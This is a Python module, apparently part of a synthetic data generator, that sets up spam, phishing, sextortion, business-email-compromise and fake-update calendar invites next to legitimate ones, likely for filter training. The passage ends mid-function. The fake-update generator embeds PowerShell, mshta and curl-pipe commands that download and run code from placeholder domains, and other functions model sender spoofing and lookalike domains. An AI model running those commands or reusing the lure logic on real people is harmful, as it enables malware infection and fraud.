# -*- coding: utf-8 -*-
"""Category set-ups: who sends, to whom, with which slots and event shape."""
from .core import rstr, digits, hexs, uid4, TD, D, from_utc, to_utc
from .data import FREEMAIL, ORGS, LOCALE, fmt_when
from . import common as C
from .ics import Ev

LOWD = C.LOWD


def B():
    from . import build
    return build


def wchoice(rng, pairs):
    tot = sum(w for _, w in pairs)
    r = rng.uniform(0, tot)
    for v, w in pairs:
        r -= w
        if r <= 0:
            return v
    return pairs[-1][0]


CITY = {'en': ['Chicago', 'Leeds', 'Denver', 'Austin', 'Manchester', 'Toronto', 'Seattle', 'Bristol'],
        'fr': ['Lyon', 'Nantes', 'Lille', 'Bordeaux'], 'de': ['Köln', 'Leipzig', 'Stuttgart', 'Bremen'],
        'es': ['Valencia', 'Sevilla', 'Bilbao', 'Zaragoza'], 'it': ['Torino', 'Bologna', 'Napoli', 'Verona'],
        'pt': ['Campinas', 'Porto', 'Curitiba', 'Recife'], 'nl': ['Utrecht', 'Eindhoven', 'Groningen'],
        'pl': ['Kraków', 'Wrocław', 'Gdańsk'], 'tr': ['İzmir', 'Bursa', 'Ankara'], 'ru': ['Казань', 'Самара', 'Пермь'],
        'el': ['Πάτρα', 'Ηράκλειο', 'Λάρισα'], 'ar': ['جدة', 'الدمام', 'الإسكندرية'], 'he': ['חיפה', 'באר שבע'],
        'zh': ['杭州', '成都', '苏州'], 'ja': ['横浜', '福岡', '札幌'], 'ko': ['부산', '대구', '인천'],
        'hi': ['जयपुर', 'लखनऊ', 'इंदौर'], 'th': ['เชียงใหม่', 'ขอนแก่น', 'ภูเก็ต']}

BANKS = {'en': ['Chase', 'Wells Fargo', 'Barclays', 'HSBC', 'Lloyds Bank', 'Bank of America', 'Santander UK'],
         'fr': ['Crédit Agricole', 'BNP Paribas', 'Société Générale', 'La Banque Postale'],
         'de': ['Sparkasse', 'Volksbank', 'Commerzbank', 'Deutsche Bank', 'ING'],
         'es': ['BBVA', 'CaixaBank', 'Banco Santander'], 'it': ['Intesa Sanpaolo', 'UniCredit', 'BPER Banca'],
         'pt': ['Itaú', 'Bradesco', 'Banco do Brasil', 'Caixa'], 'nl': ['ING', 'Rabobank', 'ABN AMRO'],
         'pl': ['PKO BP', 'mBank', 'Santander Bank Polska'], 'tr': ['Ziraat Bankası', 'Garanti BBVA'],
         'ru': ['Сбербанк', 'ВТБ', 'Альфа-Банк'], 'el': ['Εθνική Τράπεζα', 'Τράπεζα Πειραιώς', 'Eurobank'],
         'ar': ['مصرف الراجحي', 'البنك الأهلي', 'بنك الإمارات دبي الوطني'], 'he': ['בנק הפועלים', 'בנק לאומי'],
         'zh': ['中国工商银行', '招商银行'], 'ja': ['三井住友銀行', 'みずほ銀行'], 'ko': ['국민은행', '신한은행'],
         'hi': ['SBI', 'HDFC Bank', 'ICICI Bank'], 'th': ['ธนาคารกสิกรไทย', 'ธนาคารกรุงเทพ']}

IBAN_CC = {'en': 'GB', 'fr': 'FR', 'de': 'DE', 'es': 'ES', 'it': 'IT', 'pt': 'PT', 'nl': 'NL', 'pl': 'PL', 'tr': 'TR',
           'el': 'GR', 'he': 'IL', 'ar': 'AE'}


def iban(rng, lang, foreign=False):
    cc = IBAN_CC.get(lang, 'GB')
    if foreign:
        cc = rng.choice(['LT', 'PT', 'HK', 'BG', 'RO', 'CY', 'EE', 'MT'])
    body = digits(rng, 2) + ' ' + ' '.join(digits(rng, 4) for _ in range(4)) + ' ' + digits(rng, 2)
    if cc == 'GB':
        body = digits(rng, 2) + ' ' + rng.choice(['BARC', 'LOYD', 'MIDL', 'NWBK', 'REVO', 'MONZ']) + ' ' + \
            ' '.join(digits(rng, 4) for _ in range(3)) + ' ' + digits(rng, 2)
    return cc + body


def btc_addr(rng):
    return 'bc1q' + rstr(rng, 38, 'qpzry9x8gf2tvdw0s3jn54khce6mua7l')


# ------------------------------------------------------------------ spam

def spam_sender_mode(m, weights):
    return wchoice(m.rng, weights)


def brand_person(rng, lang):
    return C.person(rng, lang if rng.random() < 0.7 else 'en')


def spam_common(m, weights, display=None, corp=None, rcpt_corp=0.4, local=None, who=None):
    rng = m.rng
    B().set_rcpt(m, rcpt_corp)
    mode = spam_sender_mode(m, weights)
    if corp is None:
        if mode == 'compromised':
            corp = C.org(rng, m.lang if rng.random() < .6 else rng.choice(['en', 'es', 'pt', 'it', 'fr', 'de']))
        elif mode == 'lookalike':
            corp = ('', C.junk_domain(rng) if rng.random() < .5 else C.lookalike(rng, rng.choice(
                ['secure', 'support', 'service', 'notify', 'billing', 'portal']) + rstr(rng, 3, 'abcdefghijklmnopqrstuvwxyz') + '.com'))
        elif mode == 'vps':
            corp = ('', C.junk_domain(rng))
    who = who or C.person(rng, m.lang if rng.random() < .7 else 'en')
    B().set_sender(m, 'corp' if mode == 'compromised' else mode, who, corp, local=local, display=display)
    return mode


def crowd_atts(m, lo, hi, same_domain_share=0.5):
    rng = m.rng
    n = rng.randint(lo, hi)
    doms = None
    if rng.random() < same_domain_share:
        doms = [m.rcpt['domain']]
    langs = (m.lang, 'en') if m.lang != 'en' else ('en',)
    atts = B().crowd(rng, n, langs, doms, exclude=(m.rcpt['addr'], m.rcpt['name']))
    if rng.random() < 0.5:
        atts.sort(key=lambda a: a['addr'])
    return atts


def spam_url_for(m, brand_dom=None):
    rng = m.rng
    if brand_dom and rng.random() < 0.5:
        return C.spam_url(rng, C.lookalike(rng, brand_dom))
    return C.spam_url(rng)


def spam_event_tweaks(m, many=(0.3, 3, 40)):
    """Mass mailing behaviour: many unrelated attendees, RSVP off etc."""
    rng = m.rng
    p, lo, hi = many
    if rng.random() < p:
        m.evp['attendees'] = crowd_atts(m, lo, hi)
        m.evp['shuffle_att'] = rng.random() < 0.3


def c_retail_sale(m, e):
    rng = m.rng
    spam_common(m, [('free', 5), ('vps', 2), ('compromised', 2), ('lookalike', 1)],
                display=rng.choice(['', 'Official Store', 'Outlet', 'Flash Sale', 'VIP Deals', 'Clearance Team',
                                    'Customer Service']), rcpt_corp=0.2)
    if m.client == 'icloud' or rng.random() < 0.3:
        m.frm['name'] = rstr(rng, rng.randint(3, 8), 'abcdefghijklmnopqrstuvwxyz') if rng.random() < .5 else m.frm['name']
        m.org_name = m.frm['name']
    m.slots.update(pct=rng.choice([50, 60, 70, 75, 80, 85, 90]), price=C.money(rng, m.lang, 9, 49),
                   url=C.spam_url(rng))
    m.evp['place'] = rng.choice(['desc', 'url', 'xalt', 'location', 'desc'])
    m.evp['days'] = (0, 6)
    spam_event_tweaks(m, (0.6, 5, 60))
    if rng.random() < 0.3:
        m.evp['allday'] = True


PRIZES = {'en': ['Dyson V15 vacuum', '$500 gift card', 'iPhone 16 Pro', 'KitchenAid mixer', 'Ninja air fryer'],
          'es': ['tarjeta regalo de 500 €', 'Thermomix TM6', 'iPhone 15'],
          'it': ['buono da 500€', 'Bimby TM6'], 'pt': ['iPhone 15', 'Smart TV 55"', 'Air Fryer Mondial'],
          'tr': ['iPhone 15', 'Dyson süpürge', '5.000 TL hediye çeki'], 'ar': ['iPhone 15 Pro', 'سيارة تويوتا',
                                                                              'بطاقة هدايا بقيمة 1000 ريال'],
          'hi': ['iPhone 15', '₹25,000 का गिफ्ट कार्ड', 'Royal Enfield बाइक']}


def c_prize_survey(m, e):
    rng = m.rng
    spam_common(m, [('free', 3.5), ('vps', 2.5), ('lookalike', 2), ('compromised', 2)],
                display=rng.choice(['Customer Rewards', 'Loyalty Program', 'Survey Team', 'Rewards Center', '',
                                    'Promotions']), rcpt_corp=0.2)
    lang = m.lang
    m.slots.update(prize=rng.choice(PRIZES.get(lang, PRIZES['en'])), url=C.spam_url(rng),
                   code=rstr(rng, 3, 'ABCDEFGHJKLMNPQRSTUVWXYZ') + '-' + digits(rng, 6),
                   amount=C.money(rng, lang, 1, 9.99))
    m.evp['place'] = rng.choice(['desc', 'url', 'xalt', 'attach', 'location'])
    m.evp['days'] = (0, 3)
    spam_event_tweaks(m, (0.4, 5, 40))


PLATFORMS = ['QuantixAI', 'BitLumen', 'Coinvero', 'NeuroTrade Pro', 'Immediate Apex', 'TradeVault X', 'Bitrova',
             'Crestora Capital', 'Aurex Markets']
MENTORS = {'en': ['Richard Hale', 'David Moran', 'Dr. Steven Clark'], 'zh': ['陈明', '张教授', '李老师'],
           'ko': ['김태호', '박성민'], 'es': ['Richard Hale'], 'ru': ['Андрей Волков']}


def c_crypto_invest(m, e):
    rng = m.rng
    mode = spam_common(m, [('free', 4), ('lookalike', 2), ('vps', 2), ('compromised', 2)],
                       display=rng.choice(['', 'Account Manager', 'Investor Relations', 'Wallet Support',
                                           'Client Desk']), rcpt_corp=0.3)
    lang = m.lang
    plat = rng.choice(PLATFORMS)
    m.slots.update(platform=plat, btcd=digits(rng, 4), amount=C.money(rng, lang, 250, 48000, False),
                   url=C.spam_url(rng), tg='@' + rng.choice(['support', 'help', 'desk', 'manager', 'vip']) + '_' +
                   rstr(rng, 6, 'abcdefghijklmnopqrstuvwxyz0123456789'), phone=C.phone(rng, lang),
                   wallet=btc_addr(rng), mentor=rng.choice(MENTORS.get(lang, MENTORS['en'])),
                   code=digits(rng, 7))
    m.evp['place'] = rng.choice(['desc', 'url', 'conference', 'xalt', 'location'])
    if m.client == 'zoom':
        m.evp['place'] = 'desc'
    m.evp['days'] = (1, 5)
    spam_event_tweaks(m, (0.35, 5, 50))


GIRLS = {'en': ['Anna', 'Kristina', 'Julia', 'Vika', 'Emily', 'Natalie', 'Jessica'], 'zh': ['小雪', '晓琳'],
         'ja': ['ゆい', 'あやか'], 'ko': ['지수', '민지'], 'th': ['น้องแพร', 'มายด์'], 'ru': ['Алина']}


def c_dating_sextortion(m, e):
    rng = m.rng
    g = rng.choice(GIRLS.get(m.lang, GIRLS['en']))
    spam_common(m, [('free', 6), ('vps', 2), ('compromised', 2)],
                display=g if 'sext' not in m.kind else rng.choice(['', 'Hacker', 'Anonymous']), rcpt_corp=0.25)
    lang = m.lang
    if 'sext' in m.kind and rng.random() < 0.5:
        # classic: spoofs the recipient's own address as sender
        m.frm = {'name': '', 'addr': m.rcpt['addr']}
        m.org_addr = m.rcpt['addr']
        m.org_name = ''
        if m.client in ('outlook', 'apple', 'thunderbird', 'script', 'booking', 'sogo', 'zimbra', 'nextcloud'):
            m.infra_kind = 'spoof'
            m.infra_opts = {'vdom': C.junk_domain(rng)}
    m.slots.update(girl=g, city=rng.choice(CITY.get(lang, CITY['en'])), url=C.spam_url(rng),
                   amount=rng.choice(['1200 USD', '$1,450', '950 EUR', '1650 USD', '$2,000', '1350 USD']),
                   btc=btc_addr(rng),
                   site=rng.choice(['MeetLocal', 'FlirtNow', 'DateHub']),
                   alt='%s%s@%s' % (g.lower() if g.isascii() else 'lady', digits(rng, 3),
                                    rng.choice(['gmail.com', 'outlook.com', 'yahoo.com'])))
    m.evp['place'] = rng.choice(['desc', 'location', 'url', 'desc'])
    m.evp['days'] = (0, 2)
    m.evp['hours'] = (19, 23)
    if 'sext' in m.kind:
        m.evp['place'] = 'desc'
    spam_event_tweaks(m, (0.3, 5, 30))


CARRIERS = {'en': [('USPS', 'usps.com'), ('UPS', 'ups.com'), ('FedEx', 'fedex.com'), ('Royal Mail', 'royalmail.com'),
                   ('Evri', 'evri.com'), ('DHL Express', 'dhl.com'), ('E-ZPass', 'e-zpassny.com'),
                   ('SunPass', 'sunpass.com'), ('HMRC', 'hmrc.gov.uk'), ('IRS', 'irs.gov')],
            'fr': [('ANTAI', 'antai.gouv.fr'), ('La Poste', 'laposte.fr'), ('Colissimo', 'colissimo.fr')],
            'de': [('DHL', 'dhl.de'), ('Hermes', 'myhermes.de')], 'es': [('Correos', 'correos.es')],
            'pt': [('Correios', 'correios.com.br')], 'nl': [('PostNL', 'postnl.nl')], 'pl': [('InPost', 'inpost.pl')]}


def c_fee_scam(m, e):
    rng = m.rng
    lang = m.lang
    kmap = {'usps': ('USPS', 'usps.com'), 'toll': ('E-ZPass', 'e-zpassny.com'), 'tax': ('HMRC', 'hmrc.gov.uk'),
            'customs': ('DHL Express', 'dhl.com'), 'fine': ('City Parking Services', 'cityparking-services.com'),
            'royalmail': ('Royal Mail', 'royalmail.com'), 'antai': ('ANTAI', 'antai.gouv.fr'),
            'dhl': ('DHL', 'dhl.de'), 'correos': ('Correos', 'correos.es'), 'correios': ('Correios', 'correios.com.br'),
            'postnl': ('PostNL', 'postnl.nl'), 'inpost': ('InPost', 'inpost.pl')}
    car = kmap.get(m.kind) or rng.choice(CARRIERS.get(lang, CARRIERS['en']))
    mode = wchoice(rng, [('lookalike', 3.5), ('spoof', 2), ('free', 2), ('compromised', 2.5)])
    B().set_rcpt(m, 0.3)
    if mode == 'lookalike':
        corp = (car[0], C.lookalike(rng, car[1].replace('.gov.uk', '.co.uk').replace('.gouv.fr', '.fr')
                                    .replace('.com.br', '.com')))
    elif mode == 'spoof':
        corp = (car[0], car[1])
    elif mode == 'compromised':
        corp = C.org(rng, lang)
    else:
        corp = None
    B().set_sender(m, 'corp' if mode == 'compromised' else mode, C.person(rng, lang), corp,
                   local=rng.choice(['noreply', 'no-reply', 'info', 'service', 'notification', 'support']) if mode in
                   ('lookalike', 'spoof') else None, display=car[0] if rng.random() < 0.8 else car[0] + ' Service')
    trk = rng.choice(['%s%sUS' % (rstr(rng, 2, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ'), digits(rng, 9)), '1Z' + rstr(rng, 16,
                      'ABCDEFGHJKLMNPQRSTUVWXYZ0123456789'), '00340434' + digits(rng, 12), '3S' + rstr(rng, 13,
                      'ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789')])
    amt = C.money(rng, lang, 35, 135, cents=False) if m.kind in ('fine', 'antai') else \
        C.money(rng, lang, 180, 900) if m.kind == 'tax' else \
        C.money(rng, lang, 1.2, 6.99) if rng.random() < .7 else C.money(rng, lang, 4, 19)
    m.slots.update(track=trk, amount=amt,
                   url=spam_url_for(m, car[1]), code=digits(rng, 10))
    m.evp['place'] = rng.choice(['desc', 'url', 'attach', 'xalt', 'desc'])
    m.evp['days'] = (0, 3)
    if rng.random() < 0.4:
        m.evp['allday'] = True
    spam_event_tweaks(m, (0.3, 3, 25))


CRED_BRANDS = {'m365': ('Microsoft 365', 'microsoft.com'), 'docusign': ('DocuSign', 'docusign.net'),
               'paypal': ('PayPal', 'paypal.com'), 'bank': (None, None), 'adobe': ('Adobe Acrobat', 'adobe.com'),
               'quota': ('IT Service Desk', None), 'dropbox': ('Dropbox', 'dropbox.com'),
               'gov': (None, None), 'amazon': ('Amazon', 'amazon.co.jp'), 'booking': ('Booking.com', 'booking.com')}


def c_cred_phish(m, e):
    rng = m.rng
    lang = m.lang
    k = m.kind or 'm365'
    brand, bdom = CRED_BRANDS.get(k, ('Microsoft 365', 'microsoft.com'))
    bank = rng.choice(BANKS.get(lang, BANKS['en']))
    if k == 'bank':
        brand, bdom = bank, C.slug(bank).replace('-', '') + '.com'
    if k == 'gov':
        brand, bdom = ('DigiD' if lang == 'nl' else 'Gov'), 'digid.nl' if lang == 'nl' else 'gov.example'
    B().set_rcpt(m, 0.75 if k in ('m365', 'quota', 'docusign', 'adobe', 'dropbox') else 0.35)
    mode = wchoice(rng, [('compromised', 3.5), ('lookalike', 3), ('spoof', 1.5), ('free', 2)])
    who = C.person(rng, lang)
    disp = brand
    if mode == 'compromised':
        corp = C.org(rng, lang if rng.random() < 0.6 else 'en')
        if k in ('docusign', 'adobe', 'dropbox'):
            disp = who['name'] if rng.random() < 0.5 else '%s via %s' % (who['name'], brand)
        local = None
    elif mode == 'lookalike':
        base = bdom or (m.rcpt['domain'] if k == 'quota' else 'mail-admin.com')
        corp = ('', C.lookalike(rng, base))
        local = rng.choice(['no-reply', 'noreply', 'security', 'alerts', 'admin', 'dse', 'service', 'support'])
    elif mode == 'spoof':
        corp = ('', bdom or m.rcpt['domain'])
        local = rng.choice(['no-reply', 'admin', 'security', 'it-support', 'postmaster'])
    else:
        corp = None
        local = None
    if k == 'quota' and mode != 'compromised':
        disp = rng.choice(['IT Service Desk', 'Mail Administrator', 'Helpdesk', m.rcpt['org'] + ' IT' if m.rcpt['org']
                           else 'IT Support'])
    B().set_sender(m, 'corp' if mode == 'compromised' else mode, who, corp, local=local, display=disp)
    url = spam_url_for(m, bdom)
    if rng.random() < 0.3:
        url += ('#' if rng.random() < .5 else '?e=') + (m.rcpt['addr'] if rng.random() < .5 else
                                                          __import__('base64').b64encode(m.rcpt['addr'].encode()).decode())
    m.slots.update(url=url, org=m.rcpt['org'] or m.rcpt['domain'], q=rng.randint(1, 4), bank=bank,
                   code=digits(rng, 8), doc=rng.choice(['Payment_Advice.pdf', 'Statement_%s.pdf' % digits(rng, 5),
                                                        'Signed_Agreement.pdf', 'Q%d_Report.pdf' % rng.randint(1, 4)]),
                   date=fmt_when(lang, from_utc(m.stz, m.arrival) + TD(days=rng.randint(1, 3)), False),
                   amount=C.money(rng, lang, 200, 9000))
    m.evp['place'] = rng.choice(['desc', 'url', 'xalt', 'attach', 'conference', 'location', 'desc'])
    m.evp['days'] = (0, 2)
    m.evp['dur'] = (15, 30)
    if rng.random() < 0.25:
        m.evp['alarms'] = [(0, 'Action required'), (5, None)]
    spam_event_tweaks(m, (0.25, 3, 30))


def c_callback_scam(m, e):
    rng = m.rng
    lang = m.lang
    spam_common(m, [('free', 6), ('lookalike', 2), ('vps', 2)],
                display=rng.choice(['Billing Department', 'Customer Support', 'Order Confirmation', '',
                                    'Subscription Services', 'Accounts']), rcpt_corp=0.25)
    m.slots.update(code=rng.choice(['INV', 'ORD', 'NS', '#']) + digits(rng, 8), amount=C.money(rng, lang, 199, 899),
                   phone=C.phone(rng, lang, toll=True))
    m.evp['days'] = (0, 2)
    m.evp['place'] = 'desc'
    if rng.random() < 0.3:
        m.evp['location'] = m.slots['phone']
    spam_event_tweaks(m, (0.3, 3, 20))


def c_fake_update(m, e):
    rng = m.rng
    lang = m.lang
    mode = spam_common(m, [('compromised', 3.5), ('lookalike', 3.5), ('free', 1.5), ('vps', 1.5)],
                       rcpt_corp=0.85)
    udom = C.lookalike(rng, rng.choice(['teams-update.com', 'zoom-client.com', 'meetingsupport.com', 'webex-app.com',
                                        'chromeupdate.com'])) if rng.random() < 0.6 else \
        (C.hosted(rng) if rng.random() < 0.4 else C.junk_domain(rng))
    m.slots.update(url='https://' + udom + rng.choice(['', '/download', '/TeamsSetup.msi', '/ZoomInstaller.exe',
                                                       '/update.zip', '/setup.msix', '/dl/' + rstr(rng, 8, LOWD),
                                                       '/Zoom_Workplace_' + digits(rng, 4) + '.exe']),
                   ver=rng.choice(['6.0.2.%d' % rng.randint(1000, 9999), '24.%d.1' % rng.randint(1, 12),
                                   '5.17.%d' % rng.randint(1, 12)]))
    dom = C.junk_domain(rng)
    m.slots['cmd'] = rng.choice([
        'powershell -w hidden -c "iex(irm https://%s/v.ps1)"' % dom,
        'mshta https://%s/verify.hta # I am not a robot - reCAPTCHA ID: %s' % (dom, digits(rng, 4)),
        'cmd /c curl -s https://%s/c.txt | powershell -nop -' % dom,
        'powershell -nop -ep bypass -c "$u=\'https://%s/fix\';iwr $u -useb|iex"' % dom])
    m.evp['place'] = rng.choice(['desc', 'conference', 'location', 'url', 'desc'])
    m.evp['days'] = (0, 3)
    if m.client == 'teams' and rng.random() < .5:
        m.teams = None
    spam_event_tweaks(m, (0.2, 2, 12))


def exec_person(rng, lang):
    return C.person(rng, lang)


def c_bec(m, e):
    rng = m.rng
    lang = m.lang
    o = C.org(rng, lang)
    B().set_rcpt(m, 1.0, dom=o[1], orgname=o[0])
    ceo = exec_person(rng, lang)
    k = m.kind
    supplier = C.org(rng, lang if rng.random() < .7 else 'en')
    while supplier[1] == o[1]:
        supplier = C.org(rng, 'en')
    sup_person = C.person(rng, lang)
    if k in ('supplier', 'invoice'):
        mode = wchoice(rng, [('compromised', 5), ('lookalike', 4), ('free', 1)])
        corp = supplier if mode == 'compromised' else (supplier[0], C.lookalike(rng, supplier[1]))
        B().set_sender(m, 'corp' if mode != 'free' else 'free', sup_person, corp if mode != 'free' else None)
        if mode == 'compromised' and rng.random() < 0.6:
            m.reply_to = {'name': sup_person['name'], 'addr': '%s@%s' % (sup_person['local'],
                                                                         C.lookalike(rng, supplier[1]))}
    else:
        mode = wchoice(rng, [('lookalike', 4), ('free', 4), ('spoof', 1)])
        if mode == 'lookalike':
            corp = (o[0], C.lookalike(rng, o[1]))
        elif mode == 'spoof':
            corp = o
        else:
            corp = None
        B().set_sender(m, mode, ceo, corp, display=ceo['name'])
        if mode == 'spoof' or rng.random() < 0.3:
            m.reply_to = {'name': ceo['name'], 'addr': '%s.%s@%s' % (ceo['local'].split('.')[0], rng.choice(
                ['office', 'ceo', 'exec', 'private']), rng.choice(['gmail.com', 'outlook.com', 'proton.me']))}
    m.slots.update(ceo=ceo['name'], supplier=supplier[0], invoice='INV-%s' % digits(rng, 5),
                   amount=C.money(rng, lang, 8000, 95000), bank=rng.choice(BANKS.get(lang, BANKS['en']) +
                                                                          ['Revolut', 'Wise', 'N26']),
                   iban=iban(rng, lang, foreign=rng.random() < 0.4), lawyer=C.person(rng, 'en')['name'])
    m.evp['days'] = (0, 1)
    m.evp['dur'] = (15, 30)
    m.evp['hours'] = (9, 16)
    if rng.random() < 0.3:
        m.evp['rcpt_attendee'] = True
        m.evp['org_attendee'] = False


def c_advance_fee(m, e):
    rng = m.rng
    lang = m.lang
    bar = rng.choice(['James Okoro', 'Williams Adebayo', 'Mark Peterson', 'Ahmed Sule', 'Robert Wilson',
                      'Kenneth Mensah', 'Daniel Moore'])
    spam_common(m, [('free', 8), ('compromised', 2)], display=rng.choice([bar, 'Barr. ' + bar, 'Claims Dept.', '']),
                rcpt_corp=0.3)
    m.slots.update(barrister=bar, deceased=rng.choice(['Engr. Paul ' + m.rcpt['name'].split(' ')[-1],
                                                       'Mr. ' + m.rcpt['name'].split(' ')[-1]]),
                   amount=rng.choice(['US$ 8,500,000.00', '$10.5 Million', '4.7 million euros', 'USD 2,800,000']),
                   alt='%s%s@%s' % (rng.choice(['barr', 'claims', 'office', 'agent', 'info']), digits(rng, 3),
                                    rng.choice(['gmail.com', 'outlook.com', 'yahoo.com', 'proton.me'])),
                   code=rstr(rng, 2, 'ABCDEFGHJKLMNPQRSTUVWXYZ') + '/' + digits(rng, 4) + '/' + digits(rng, 2),
                   country=rng.choice(['Burkina Faso', 'Ghana', 'Malaysia', 'Togo', 'Hong Kong']),
                   fee=rng.choice(['$250', '$480', '€320']))
    m.reply_to = {'name': bar, 'addr': m.slots['alt']}
    m.evp['days'] = (1, 10)
    spam_event_tweaks(m, (0.5, 10, 60))


def c_task_job(m, e):
    rng = m.rng
    lang = m.lang
    hr = C.person(rng, lang)
    spam_common(m, [('free', 6), ('lookalike', 2), ('vps', 2)], display=rng.choice([hr['name'], 'HR Department',
                                                                                    'Recruitment Team', '']),
                rcpt_corp=0.15, who=hr)
    m.slots.update(hr=hr['name'], company=rng.choice(['Adecco', 'Randstad', 'Robert Walters', 'Hays', 'ManpowerGroup',
                                                     'TaskHub Global', 'Appen', 'Indeed Partner']),
                   pay=C.money(rng, lang, 100, 600, False) if lang != 'en' else rng.choice(['$300-$800/day',
                                                                                           '$150-$500 per day',
                                                                                           '$90/hour']),
                   wa=C.mobile(rng, lang if rng.random() < .5 else 'en').replace('+1 ', '+1 '),
                   tg='@' + rstr(rng, rng.randint(6, 10), 'abcdefghijklmnopqrstuvwxyz') + '_' + rng.choice(['hr', 'job',
                                                                                                             'team']),
                   url='https://wa.me/' + digits(rng, 11), amount=C.money(rng, lang, 1800, 3200))
    m.evp['place'] = rng.choice(['desc', 'url', 'location'])
    m.evp['days'] = (0, 4)
    spam_event_tweaks(m, (0.5, 10, 80))


DOCS = ['Q3 Statement.pdf', 'Proposal_v2.pdf', 'RFP_2024_Documents.zip', 'Remittance advice.pdf', 'Project Scope.docx',
        'Purchase Order 4471.pdf', 'Contract Agreement.pdf', 'Revised Price List.xlsx', 'Bank Confirmation.pdf']


def c_compromised_docshare(m, e):
    rng = m.rng
    lang = m.lang
    B().set_rcpt(m, 0.95)
    partner = C.org(rng, lang if rng.random() < 0.7 else 'en')
    while partner[1] == m.rcpt['domain']:
        partner = C.org(rng, 'en')
    who = C.person(rng, lang)
    B().set_sender(m, 'corp', who, partner)
    u = C.spam_url(rng) if rng.random() < 0.6 else 'https://%s-my.sharepoint.com.%s/personal/%s' % (
        C.slug(partner[0]).replace('-', ''), C.junk_domain(rng), rstr(rng, 12, C.LOWD))
    m.slots.update(sorg=partner[0], doc=rng.choice(DOCS), url=u, invoice=digits(rng, 6),
                   phone=C.phone(rng, lang))
    m.evp['place'] = rng.choice(['desc', 'attach', 'url', 'xalt', 'desc', 'conference'])
    m.evp['days'] = (0, 3)
    if rng.random() < 0.5:
        m.evp['attendees'] = crowd_atts(m, 3, 40, same_domain_share=0.2)
    if rng.random() < 0.2 and m.client in ('exchange', 'outlook', 'google', 'thunderbird', 'apple', 'yahoo'):
        m.fwd = {'from_name': C.person(rng, lang)['name'], 'from_addr': '%s@%s' % (C.person(rng, lang)['local'],
                                                                                   partner[1]),
                 'date': 'recently', 'subject': e.get('S', '').replace('{', '').replace('}', ''), 'to': m.rcpt['addr'],
                 'note': ''}


def c_nagging_payload(m, e):
    rng = m.rng
    lang = m.lang
    spam_common(m, [('free', 4), ('vps', 3), ('compromised', 3)], display=rng.choice(['', 'Security Alert',
                                                                                       'Device Protection', 'Reminder',
                                                                                       'Apple Support']),
                rcpt_corp=0.1)
    m.slots.update(url=C.spam_url(rng), phone=C.phone(rng, lang, True))
    kind = rng.choice(['daily', 'minutely', 'future', 'alarms', 'hourly'])
    if 'future' in m.kind:
        kind = 'future'
    ev = m.evp
    if kind == 'daily':
        ev['rrule'] = 'FREQ=DAILY'
        ev['alarms'] = [(mm, None) for mm in (0, 5, 10, 30, 60)]
    elif kind == 'minutely':
        ev['rrule'] = 'FREQ=MINUTELY;INTERVAL=%d' % rng.choice([5, 10, 15, 30])
        ev['alarms'] = [(0, None)]
    elif kind == 'hourly':
        ev['rrule'] = 'FREQ=HOURLY;INTERVAL=%d' % rng.choice([1, 2, 3])
        ev['alarms'] = [(mm, None) for mm in range(0, 60, 5)]
    elif kind == 'future':
        loc = from_utc(m.stz, m.arrival)
        st = D(rng.choice([2099, 2088, 2076, 2050, 2123]), loc.month, min(loc.day, 28), rng.randint(8, 20), 0)
        ev['start'], ev['end'] = st, st + TD(hours=rng.choice([1, 24]))
        ev['rrule'] = rng.choice(['FREQ=YEARLY', 'FREQ=DAILY', 'FREQ=WEEKLY;BYDAY=MO,TU,WE,TH,FR,SA,SU'])
        ev['alarms'] = [(mm, None) for mm in (0, 1, 2, 5, 10, 15, 30)]
    else:
        ev['alarms'] = [(mm, None) for mm in range(0, 24 * 60, 60)][:rng.randint(12, 24)]
        if rng.random() < 0.5:
            ev['rrule'] = 'FREQ=WEEKLY;COUNT=520'
    if kind != 'future':
        ev['days'] = (0, 1)
    m.nag_kind = kind
    if kind in ('alarms', 'daily') and rng.random() < 0.5:
        loc = from_utc(m.stz, m.arrival)
        base = D(loc.year, loc.month, loc.day, rng.randint(8, 20), 0)
        ev['start'], ev['end'] = base + TD(days=1), base + TD(days=1, minutes=30)
        ev['extra_events'] = [{'start': base + TD(days=d), 'end': base + TD(days=d, minutes=30)}
                              for d in range(2, rng.randint(5, 14))]
    ev['place'] = rng.choice(['desc', 'url', 'location', 'desc'])
    spam_event_tweaks(m, (0.3, 5, 40))


PRODUCTS = ['SEO', 'pharmacy', 'summit', 'watches']


def c_mass_invite(m, e):
    rng = m.rng
    lang = m.lang
    spam_common(m, [('free', 4), ('compromised', 2), ('vps', 2), ('lookalike', 2)],
                display=rng.choice(['', 'Events Team', 'Marketing', 'Sales Department', 'Promo']), rcpt_corp=0.6)
    m.slots.update(url=C.spam_url(rng), phone=C.phone(rng, lang), price=C.money(rng, lang, 990, 4990),
                   line='@' + rstr(rng, 7, 'abcdefghijklmnopqrstuvwxyz0123456789'))
    n = rng.randint(120, 600)
    m.evp['attendees'] = crowd_atts(m, n, n, same_domain_share=0.25)
    m.evp['shuffle_att'] = rng.random() < 0.4
    m.evp['place'] = rng.choice(['desc', 'url', 'location', 'desc'])
    m.evp['days'] = (1, 20)
    if rng.random() < 0.5:
        m.to = [(a['name'], a['addr']) for a in m.evp['attendees'][:rng.randint(20, 60)]] + m.to
        rng.shuffle(m.to)
    elif rng.random() < 0.5:
        m.to = []


# ------------------------------------------------------------------ ham

def ham_corp_sender(m, corp=None, who=None, display=None, local=None, mode='corp'):
    rng = m.rng
    who = who or C.person(rng, m.lang)
    corp = corp or C.org(rng, m.lang)
    B().set_sender(m, mode, who, corp, display=display, local=local)
    return who, corp


def meet_links(m):
    rng = m.rng
    if m.client == 'google' and rng.random() < 0.7:
        m.meet = 'https://meet.google.com/%s-%s-%s' % (rstr(rng, 3, C.LOW), rstr(rng, 4, C.LOW), rstr(rng, 3, C.LOW))
    if m.client == 'teams' or (m.client == 'exchange' and rng.random() < 0.4):
        m.client = 'teams' if m.client == 'teams' else m.client
        url = 'https://teams.microsoft.com/l/meetup-join/19%%3ameeting_%s%%40thread.v2/0?context=%%7b%%22Tid%%22%%3a%%22' \
              '%s%%22%%2c%%22Oid%%22%%3a%%22%s%%22%%7d' % (rstr(rng, 48), uid4(rng), uid4(rng))
        m.teams = (url, '%s %s %s %s' % (digits(rng, 3), digits(rng, 3), digits(rng, 3), digits(rng, 3)),
                   rstr(rng, 6))
    if m.client == 'zoom':
        m.zoom = 'https://us0%dweb.zoom.us/j/%s?pwd=%s' % (rng.randint(2, 6), digits(rng, 11), rstr(rng, 32))


def zoom_link(rng):
